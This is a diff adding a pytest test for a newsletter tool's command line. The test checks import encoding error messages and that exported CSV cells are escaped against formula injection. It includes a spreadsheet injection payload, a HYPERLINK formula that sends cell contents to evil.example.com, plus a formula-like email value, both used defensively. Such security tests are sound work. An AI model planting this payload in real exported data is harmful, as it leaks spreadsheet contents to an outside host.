@@ -19,6 +19,7 @@ from pathlib import Path
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from test_cli import cli, project
 
 from newsletter.config import Settings
 from newsletter.csvfile import FORMULA_START, MAX_ROW_CHARS, escape_cell, unescape_cell
@@ -426,3 +427,41 @@ def test_list_file_sync_uses_the_list_encoding(
     assert sync_lists(marked, store, NOW)["members"].added == 5
     with pytest.raises(ConfigError, match="unknown text encoding"):
         make_config(lists=[{"name": "members", "file": str(path), "encoding": "klingon"}])
+
+
+# -- the command line -------------------------------------------------------------------
+
+
+def test_cli_import_names_the_encoding_and_export_escapes_formulas(tmp_path: Path) -> None:
+    cfg = project(tmp_path)
+    path = tmp_path / "членове.csv"
+    data = ("\r\n".join([HEADER, *rows_cp1251(351, bad=175)]) + "\r\n").encode("cp1251")
+    path.write_bytes(data)
+    refused = cli(cfg, "subscribers", "import", str(path))
+    assert refused.returncode == 1
+    [line] = refused.stderr.strip().splitlines()
+    assert line.startswith(f"error: {path}: line 2, byte offset ")
+    assert line.endswith("--encoding cp1251") and "Traceback" not in refused.stderr
+    out = tmp_path / "export.csv"
+    assert cli(cfg, "subscribers", "export", "--out", str(out)).returncode == 0
+    assert "chlen" not in out.read_text(encoding="utf-8")  # nothing half-imported
+
+    assert cli(cfg, "subscribers", "import", str(path), "--encoding", "klingon").returncode == 2
+    done = cli(cfg, "subscribers", "import", str(path), "--encoding", "cp1251", "--list", "x")
+    assert done.returncode == 1  # one bad row
+    assert "351 row(s): 350 added" in done.stdout
+    [bad] = done.stderr.strip().splitlines()
+    assert bad.startswith(f"{path}: line 177: ") and "chlen175-at-example.org" in bad
+
+    attack = '=HYPERLINK("https://evil.example.com/?"&A1,"Вижте")'
+    added = cli(
+        cfg, "subscribers", "add", "--name", attack, "--list", "x", "--", "-2+3@example.org"
+    )
+    assert added.returncode == 0, added.stderr
+    assert cli(cfg, "subscribers", "export", "--list", "x", "--out", str(out)).returncode == 0
+    text = out.read_text(encoding="utf-8")
+    assert_no_formula_anywhere(text)
+    assert "'=HYPERLINK" in text and "'-2+3@example.org" in text
+    again = cli(cfg, "subscribers", "import", str(out))
+    assert again.returncode == 0, again.stderr
+    assert "351 row(s): 0 added, 0 updated, 351 unchanged" in again.stdout
